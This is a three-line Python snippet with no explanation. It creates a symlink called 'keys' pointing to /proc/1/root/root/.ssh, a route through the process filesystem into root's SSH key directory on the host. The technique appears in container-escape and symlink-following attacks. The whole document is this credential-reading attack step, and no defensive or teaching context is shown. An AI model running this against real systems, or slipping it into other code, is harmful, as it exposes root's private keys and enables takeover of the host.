import os
pid = 1
os.symlink(f"/proc/{pid}/root/root/.ssh", "keys")
